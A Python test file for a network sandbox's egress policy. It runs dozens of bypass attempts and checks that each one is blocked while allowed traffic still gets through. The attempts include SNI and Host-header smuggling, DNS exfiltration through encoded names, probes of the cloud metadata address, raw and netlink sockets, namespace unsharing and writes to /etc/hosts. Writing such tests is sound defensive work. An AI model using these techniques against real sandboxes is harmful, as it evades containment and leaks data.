"""Ways around the rules: none of them reaches a server, and what is allowed still works.

Every address of the small internet has servers that answer ``REACHED`` and log whoever comes. A
guest that may reach ``api.example.com`` tries the rest.
"""

from __future__ import annotations

from typing import NamedTuple

import pytest

from tests.network.conftest import Internet
from tests.network.internet import OTHER, PRIVATE, PUBLIC, REACHED

API = "api.example.com"

PRELUDE = r"""
import os, socket, ssl, struct, sys, time
def talk(one, data):
    one.settimeout(8)
    one.sendall(data)
    out = b""
    try:
        while piece := one.recv(65536):
            out += piece
    except OSError as error:
        print(error)
    print(out.decode("latin-1"))
def request(host, path="/x"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
def get(where, port=80, host="api.example.com"):
    talk(socket.create_connection((where, port), 8), request(host))
def secure(where, name, host="api.example.com", port=443):
    context = ssl._create_unverified_context()
    context.check_hostname = False
    one = context.wrap_socket(socket.create_connection((where, port), 8), server_hostname=name)
    talk(one, request(host))
def hello(name):
    context = ssl._create_unverified_context()
    end = context.wrap_bio(ssl.MemoryBIO(), out := ssl.MemoryBIO(), server_hostname=name)
    try:
        end.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
def question(name, kind=1, klass=1):
    labels = b"".join(bytes([len(x)]) + x for x in name.encode("latin-1").split(b"."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, klass)
def dig(name, kind=1, klass=1, at="127.0.0.1"):
    one = socket.socket(type=socket.SOCK_DGRAM)
    one.settimeout(3)
    one.sendto(question(name, kind, klass), (at, 53))
    return one.recv(4096)
def datagram(where, port):
    one = socket.socket(type=socket.SOCK_DGRAM)
    one.settimeout(1)
    one.sendto(b"out", (where, port))
    print(one.recv(100))
"""


class Bypass(NamedTuple):
    """``code`` must reach nothing. ``rules`` are in force, ``deny`` too."""

    name: str
    code: str
    rules: tuple[str, ...] = (API,)


def forms(address: str) -> list[str]:
    """An address as C libraries read it."""
    a, b, c, d = (int(part) for part in address.split("."))
    whole = a << 24 | b << 16 | c << 8 | d
    return [
        address, str(whole), hex(whole), f"0{whole:o}", f"{a}.{b << 16 | c << 8 | d}",
        f"{a}.{b}.{c << 8 | d}", ".".join(hex(part) for part in (a, b, c, d)),
        ".".join(f"0{part:o}" for part in (a, b, c, d)),
    ]  # fmt: skip


LITERALS = [
    Bypass(f"literal {text}", f"get({text!r})")
    for text in (*forms(OTHER), "127.1", "0", "127.0.0.1", "169.254.169.254", PRIVATE)
]
SIX = [
    Bypass(f"six {text}", f"get({text!r})")
    for text in (
        f"::ffff:{OTHER}", f"::{OTHER}", "::1", "::ffff:127.0.0.1", "2600:1::1", "64:ff9b::a09:807",
        "2002:a09:807::1", "fd00::1", "::ffff:0:10.9.8.7", "::ffff:169.254.169.254",
    )
]  # fmt: skip
NAMES = [
    Bypass(f"name {name}", f"get({name!r}, host={name!r})")
    for name in (
        "other.example.org", "OTHER.example.ORG.", "api.example.com.other.example.org",
        "example.com", "a.api.example.com", "xapi.example.com", "api-example.com",
        "xn--bcher-kva.example.com", "intern.example.com", "wild.example.com",
    )
]  # fmt: skip
PRIVATE_NAMES = [
    Bypass(f"resolves to {what}", f"get({what + '.example.com'!r}, host={what + '.example.com'!r})",
           (f"{what}.example.com",))
    for what in (
        "intern", "loop", "zero", "metadata", "carrier", "multicast", "loop6", "mapped",
        "translated", "sixtofour", "local6", "link6", "chain",
    )
]  # fmt: skip
RULES = [
    Bypass("a star is one label", "get('a.b.wild.example.com', host='a.b.wild.example.com')",
           ("*.wild.example.com",)),
    Bypass("a star is at least one label", "get('wild.example.com', host='wild.example.com')",
           ("*.wild.example.com", "**.wild.example.com")),
    Bypass("another port", "get('api.example.com', 8080)"),
    Bypass("port 80 where only 443 is allowed", "get('api.example.com')", (f"{API}:443",)),
    Bypass("another address of a range", f"get({OTHER!r})", ("93.184.216.0/27",)),
    Bypass("another port of a range", "get('10.9.8.7', 8080)", ("10.9.0.0/16:80",)),
    Bypass("own loopback through a range", "get('127.0.0.1')", ("10.9.0.0/16:80",)),
    Bypass("a name on a port that a range has", "get('api.example.com')",
           ("10.9.0.0/16:80", f"{API}:443")),
]  # fmt: skip
FIRST_WORDS = [
    Bypass("another server name", "secure('api.example.com', 'other.example.org')"),
    Bypass("no server name", "secure('api.example.com', None)"),
    Bypass("an address as server name", f"secure('api.example.com', {OTHER!r})"),
    Bypass("no TLS at all", "get('api.example.com', 443)"),
    Bypass("another server name, byte by byte",
           "s = socket.create_connection(('api.example.com', 443))\n"
           "s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n"
           "data = hello('other.example.org')\n"
           "for i in range(len(data)): s.send(data[i:i + 1])\n"
           "talk(s, b'')"),
    Bypass("another server name, over records",
           "data = hello('other.example.org')\nbody = data[5:]\n"
           "cut = [body[i:i + 9] for i in range(0, len(body), 9)]\n"
           "data = b''.join(data[:3] + len(c).to_bytes(2, 'big') + c for c in cut)\n"
           "talk(socket.create_connection(('api.example.com', 443)), data)"),
    Bypass("the right name after the wrong one",
           "talk(socket.create_connection(('api.example.com', 443)),"
           " hello('other.example.org') + hello('api.example.com'))"),
    Bypass("server name in an early alert",
           "talk(socket.create_connection(('api.example.com', 443)),"
           " b'\\x15\\x03\\x01\\0\\2\\1\\0' + hello('api.example.com'))"),
    Bypass("the server name of another allowed name",
           "secure('api.example.com', 'six.example.com')", (API, "six.example.com")),
    Bypass("the Host of another allowed name",
           "get('api.example.com', host='six.example.com')", (API, "six.example.com")),
    Bypass("another Host", "get('api.example.com', host='other.example.org')"),
    Bypass("two Hosts",
           "talk(socket.create_connection(('api.example.com', 80)), b'GET / HTTP/1.1\\r\\n"
           "Host: api.example.com\\r\\nHost: other.example.org\\r\\n\\r\\n')"),
    Bypass("no Host", "talk(socket.create_connection(('api.example.com', 80)),"
           " b'GET / HTTP/1.0\\r\\n\\r\\n')"),
    Bypass("another host in the target",
           "talk(socket.create_connection(('api.example.com', 80)), b'GET http://other.example.org/"
           " HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')"),
    Bypass("a target that only looks right",
           "talk(socket.create_connection(('api.example.com', 80)),"
           " b'GET http://api.example.com@other.example.org/ HTTP/1.1\\r\\n"
           "Host: api.example.com\\r\\n\\r\\n')"),
    Bypass("a tunnel by CONNECT",
           "talk(socket.create_connection(('api.example.com', 80)),"
           " b'CONNECT other.example.org:80 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')"),
    Bypass("a folded Host",
           "talk(socket.create_connection(('api.example.com', 80)), b'GET / HTTP/1.1\\r\\n"
           "Host: api.example.com\\r\\n other.example.org\\r\\n\\r\\n')"),
    Bypass("HTTP/2 at once", "talk(socket.create_connection(('api.example.com', 80)),"
           " b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')"),
    Bypass("another protocol on port 80",
           "talk(socket.create_connection(('api.example.com', 80)), b'EHLO x\\r\\n\\r\\n')"),
]  # fmt: skip
OTHER_WAYS = [
    Bypass("UDP to a number", f"datagram({OTHER!r}, 9999)"),
    Bypass("UDP to the name", "datagram(socket.gethostbyname('api.example.com'), 443)"),
    Bypass("DNS to a public resolver", f"dig('other.example.org', at={OTHER!r})"),
    Bypass("DNS over TLS", f"secure({OTHER!r}, 'other.example.org', port=853)"),
    Bypass("DNS over TCP elsewhere", f"get({OTHER!r}, 53)"),
    Bypass("UDP with an address of the synthetic range", "datagram('198.18.0.1', 53)"),
    Bypass("multicast", "datagram('224.0.0.251', 9999)"),
    Bypass("broadcast",
           "s = socket.socket(type=socket.SOCK_DGRAM)\n"
           "s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
           "s.sendto(b'x', ('255.255.255.255', 9999))"),
    Bypass("a raw socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)"),
    Bypass("a packet socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)"),
    Bypass("ICMP",
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n"
           f"s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ({OTHER!r}, 0))"),
    Bypass("MPTCP", "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n"
           f"s.settimeout(5)\ns.connect(({OTHER!r}, 80))\ntalk(s, request('api.example.com'))"),
    Bypass("SCTP", "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)\n"
           f"s.connect(({OTHER!r}, 80))"),
    Bypass("TCP fast open", "s = socket.socket()\n"
           f"s.sendto(request('api.example.com'), 0x20000000, ({OTHER!r}, 80))\ntalk(s, b'')"),
    Bypass("the synthetic range before it was handed out", "get('198.18.0.1')\n"),
    Bypass("the synthetic range, never handed out",
           "socket.gethostbyname('api.example.com')\nget('198.19.200.7')"),
    Bypass("from an address of the host's",
           f"socket.create_connection(({OTHER!r}, 80), source_address=({PUBLIC!r}, 0))"),
    Bypass("an interface of the host's",
           "s = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, 25, b'eth0\\0')\n"
           f"s.connect(({OTHER!r}, 80))\ntalk(s, request('api.example.com'))"),
    Bypass("the gateway's own descriptor",
           "for n in range(8):\n"
           "    try:\n"
           "        print('REACHED', os.open(f'/proc/1/fd/{n}', os.O_RDWR))\n"
           "    except OSError as error: print(error)"),
    Bypass("a descriptor of the first process's",
           "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "fd = os.pidfd_open(1)\n"
           "for n in range(8):\n"
           "    if libc.syscall(438, fd, n, 0) >= 0: print('REACHED')"),
    Bypass("another network namespace",
           "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "for flags in (0x40000000, 0x10000000 | 0x40000000):\n"
           "    if libc.unshare(flags) == 0: print('REACHED')"),
    Bypass("routes of its own",
           "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
           "body = struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0)\n"
           "s.send(struct.pack('=IHHII', 16 + len(body), 24, 0x605, 1, 0) + body)\n"
           "code = struct.unpack_from('=i', s.recv(4096), 16)[0]\n"
           "print('REACHED' if code == 0 else os.strerror(-code))"),
]  # fmt: skip
QUESTIONS = [
    Bypass("a name as data", "dig('c2VjcmV0IGRhdGE.other.example.org')"),
    Bypass("a text record", "dig('c2VjcmV0.other.example.org', 16)"),
    Bypass("a transfer of the zone", "dig('example.com', 252)"),
    Bypass("another class", "dig('version.bind', 16, 3)"),
    Bypass("several questions", "s = socket.socket(type=socket.SOCK_DGRAM)\n"
           "q = question('api.example.com')\n"
           "s.sendto(q[:4] + b'\\0\\2' + q[6:] + question('other.example.org')[12:],"
           " ('127.0.0.1', 53))\ns.settimeout(2)\nprint(s.recv(1000))"),
    Bypass("a pointer as name", "s = socket.socket(type=socket.SOCK_DGRAM)\n"
           "s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1',"
           " ('127.0.0.1', 53))\ns.settimeout(2)\nprint(s.recv(1000))"),
    Bypass("a search domain", "get('api', host='api.example.com')"),
]  # fmt: skip
ALL = [
    *LITERALS, *SIX, *NAMES, *PRIVATE_NAMES, *RULES, *FIRST_WORDS, *OTHER_WAYS, *QUESTIONS,
]  # fmt: skip
RESOLVED = {*PRIVATE_NAMES}  # an allowed name is asked for out there


@pytest.mark.parametrize("bypass", ALL, ids=[one.name for one in ALL])
def test_a_way_around_reaches_nothing(bypass: Bypass, internet: Internet) -> None:
    done = internet.guest(PRELUDE + bypass.code, *bypass.rules)
    document = done.document
    assert "error" not in document, document
    assert "SyntaxError" not in document["stderr"]
    assert "NameError" not in document["stderr"]
    assert REACHED not in document["stdout"]
    assert done.visits == []
    asked = {one[2] for one in done.seen if one[0] == "dns"}
    rules = {rule.partition(":")[0] for rule in bypass.rules}
    assert asked <= rules, "a question left the host"


@pytest.mark.parametrize(
    ("code", "rules"),
    [
        ("get('api.example.com')", (API,)),
        ("get('API.Example.com.')", (API,)),
        ("get('api.example.com', host='API.example.com:80')", (API,)),
        ("secure('api.example.com', 'api.example.com')", (API,)),
        ("secure('api.example.com', 'API.EXAMPLE.COM')", (API,)),
        ("get('a.wild.example.com', host='a.wild.example.com')", ("*.wild.example.com",)),
        ("get('a.b.wild.example.com', host='a.b.wild.example.com')", ("**.wild.example.com",)),
        ("get('xn--bcher-kva.example.com', host='xn--bcher-kva.example.com')",
         ("Bücher.example.com",)),
        ("get('api.example.com', 8080)", (f"{API}:8080",)),
        ("get('10.9.8.7')", ("10.9.8.7",)),
        ("get('10.9.8.7', 8080)", ("10.9.0.0/16:8070-8080",)),
        ("get('::ffff:10.9.8.7')", ("10.9.8.7",)),
        ("get('2600:1::1')", ("[2600:1::1]",)),
        ("get('six.example.com', host='six.example.com')", ("six.example.com",)),
        ("get('both.example.com', host='both.example.com')", ("both.example.com",)),
        ("get('mixed.example.com', host='mixed.example.com')", ("mixed.example.com",)),
        ("get('alias.example.com', host='alias.example.com')", ("alias.example.com",)),
        ("get('intern.example.com', host='intern.example.com')",
         ("intern.example.com", "10.9.8.0/24")),
        ("talk(socket.create_connection(('api.example.com', 22)), b'hello')", (f"{API}:22",)),
        ("s = socket.socket()\ns.sendto(request('api.example.com'), 0x20000000,"
         " (socket.gethostbyname('api.example.com'), 80))\ntalk(s, b'')", (API,)),
        ("s = socket.create_connection(('127.0.0.1', 53))\nq = question('api.example.com')\n"
         "s.sendall(len(q).to_bytes(2, 'big') + q)\n"
         "get(socket.inet_ntoa(s.recv(1000)[-4:]))", (API,)),
    ],
)  # fmt: skip
def test_what_rules_allow_is_reached(code: str, rules: tuple[str, ...], internet: Internet) -> None:
    done = internet.guest(PRELUDE + code, *rules)
    assert REACHED in done.document["stdout"], done.document
    assert done.visits


def test_a_mixed_answer_is_dialled_where_it_may_be(internet: Internet) -> None:
    code = "get('mixed.example.com', host='mixed.example.com')"
    done = internet.guest(PRELUDE + code, "mixed.example.com")
    assert {one[1] for one in done.visits} == {PUBLIC}


def test_the_answer_that_was_checked_is_the_one_that_is_dialled(internet: Internet) -> None:
    code = "for _ in range(6): get('rebind.example.com', host='rebind.example.com')"
    done = internet.guest(PRELUDE + code, "rebind.example.com")
    assert {one[1] for one in done.visits} <= {PUBLIC}
    reasons = {one["reason"] for one in done.document["refusals"] if one["kind"] == "network"}
    assert "it is a loopback address" in reasons


def test_deny_beats_allow(internet: Internet) -> None:
    policy = internet.directory / "deny.toml"
    policy.write_text(
        '[network]\nallow = ["**.example.com", "10.0.0.0/8"]\n'
        'deny = ["wild.example.com", "*.wild.example.com:80", "10.9.8.7"]\n'
    )
    for name in ("wild.example.com", "a.wild.example.com", "intern.example.com"):
        done = internet.guest(
            PRELUDE + f"get({name!r}, host={name!r})", options=("--policy", policy)
        )
        assert done.visits == []
        assert REACHED not in done.document["stdout"]
    done = internet.guest(PRELUDE + "get('api.example.com')", options=("--policy", policy))
    assert REACHED in done.document["stdout"]


def test_nothing_goes_out_before_the_first_words_are_read(internet: Internet) -> None:
    code = "s = socket.create_connection(('api.example.com', 80))\ns.sendall(b'GET /secret')\n"
    done = internet.guest(PRELUDE + code + "time.sleep(0.5)", API)
    assert done.visits == []
    assert done.document["connections"][0]["bytes_out"] == 0


def test_a_second_request_stays_with_the_same_server(internet: Internet) -> None:
    code = (
        "s = socket.create_connection(('api.example.com', 80))\n"
        "s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')\n"
        "time.sleep(0.5)\ntalk(s, request('other.example.org'))"
    )
    done = internet.guest(PRELUDE + code, API)
    assert {one[1] for one in done.visits} == {PUBLIC}


def test_ports_that_the_guest_takes_first_are_its_own(internet: Internet) -> None:
    code = (
        "for host in ('198.18.0.1', '0.0.0.0'):\n"
        "    try: a = socket.create_server((host, 8080)); print('took')\n"
        "    except OSError as error: print(error)\n"
        "try: get('api.example.com', 8080)\n"
        "except OSError as error: print(error)"
    )
    done = internet.guest(PRELUDE + code, f"{API}:8080", timeout_s=40)
    assert {one[1] for one in done.visits} <= {PUBLIC}


def test_the_resolver_s_port_is_not_the_guest_s_to_take(internet: Internet) -> None:
    code = (
        "for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n"
        "    for where in ('127.0.0.1', '0.0.0.0', '127.0.0.2'):\n"
        "        s = socket.socket(type=kind)\n"
        "        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
        "        try: s.bind((where, 53)); print('took')\n"
        "        except OSError as error: print(error.errno)"
    )
    assert "took" not in internet.guest(PRELUDE + code, API).document["stdout"]


def test_files_that_name_hosts_change_nothing(internet: Internet) -> None:
    code = (
        "for path in ('/etc/hosts', '/etc/resolv.conf', '/etc/nsswitch.conf'):\n"
        "    try: open(path, 'a').write('93.184.216.35 api.example.com'); print('wrote')\n"
        "    except OSError as error: print(error.errno)"
    )
    done = internet.guest(PRELUDE + code, API)
    assert "wrote" not in done.document["stdout"]
    hosts = internet.directory / "own-hosts"
    hosts.write_text("198.18.0.1 other.example.org\n93.184.216.35 api.example.com\n")
    done = internet.guest(
        PRELUDE + "dig('api.example.com')\nget('198.18.0.1', host='other.example.org')",
        API,
        options=("--read", hosts),
    )
    assert done.visits == []


def test_a_neighbour_s_network_is_another(internet: Internet) -> None:
    script = (
        "wardian='{0}'; $wardian exec -q --net api.example.com -- /usr/bin/python3 -c "
        '\'import socket,time; socket.gethostbyname("api.example.com");'
        ' a = socket.create_server(("0.0.0.0", 7000)); time.sleep(2)\' & sleep 1;'
        " $wardian exec -q --net api.example.com -- /usr/bin/python3 -c "
        '\'import socket; socket.create_connection(("198.18.0.1", 7000), 3);'
        ' print("REACHED")\'; wait'
    )
    from tests.command import COMMAND

    done = internet.run("sh", "-c", script.format(" ".join(COMMAND)))
    assert REACHED not in done.stdout
    assert "ConnectionRefusedError" in done.stderr
